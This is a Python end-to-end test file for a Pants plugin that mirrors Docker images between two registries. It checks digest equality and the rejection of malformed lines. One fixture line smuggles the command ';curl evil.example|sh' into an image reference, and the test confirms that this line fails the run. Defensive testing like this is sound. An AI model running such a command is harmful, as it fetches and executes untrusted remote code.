"""End to end: the real `./pants publish` mirrors images between two real registries through a
real Docker engine, and the destination serves the source's manifest digests."""

from __future__ import annotations

from typing import Callable

from docker_mirror_testutil.images import make_image
from docker_mirror_testutil.pants_repo import PantsRepo
from docker_mirror_testutil.registries import Registry

BUILD = "docker_mirror_images(name='mirror', sources=['images.txt'])\n"


def test_publish_mirrors_every_line_with_equal_digests(
    docker_engine: None, registries: Callable[[], Registry], pants_repo: PantsRepo
) -> None:
    upstream, mirror = registries(), registries()
    busybox = make_image(f"{upstream.address}/library/busybox:1.36", "busybox")
    app = make_image(f"{upstream.address}/team/app:2.0", "app")
    pants_repo.write(
        {
            "src/BUILD": BUILD,
            "src/images.txt": (
                "# mirrored base images\n"
                f"{upstream.address}/library/busybox:1.36\n"
                f"{upstream.address}/team/app@{app}  AS pinned\n"
            ),
        }
    )

    result = pants_repo.pants("list", "publish", "src::", registry=mirror)

    assert result.returncode == 0, result
    port_name = upstream.address.replace(":", "_")
    assert f"src:mirror#{port_name}/library/busybox" in result.stdout.splitlines(), result
    assert "src:mirror#pinned" in result.stdout.splitlines(), result
    assert mirror.manifest_digest("mirror/library/busybox", "1.36") == busybox
    # A digest-only line is tagged with the full digest.
    assert mirror.tags("mirror/team/app") == ["digest-sha256-" + app.split(":", 1)[1]]
    assert mirror.manifest_digest("mirror/team/app", app) == app
    assert mirror.repositories() == ["mirror/library/busybox", "mirror/team/app"]


def test_a_bad_line_fails_the_run_and_publishes_nothing(
    docker_engine: None, registries: Callable[[], Registry], pants_repo: PantsRepo
) -> None:
    upstream, mirror = registries(), registries()
    make_image(f"{upstream.address}/library/busybox:1.36", "busybox")
    pants_repo.write(
        {
            "src/BUILD": BUILD,
            "src/images.txt": (
                f"{upstream.address}/library/busybox:1.36\n"
                f"{upstream.address}/library/busybox:1.36;curl evil.example|sh\n"
            ),
        }
    )

    result = pants_repo.pants("publish", "src::", registry=mirror)

    assert result.returncode != 0, result
    assert "src/images.txt:2: " in result.stderr, result
    assert ";curl evil.example|sh" in result.stderr, result
    assert mirror.repositories() == []
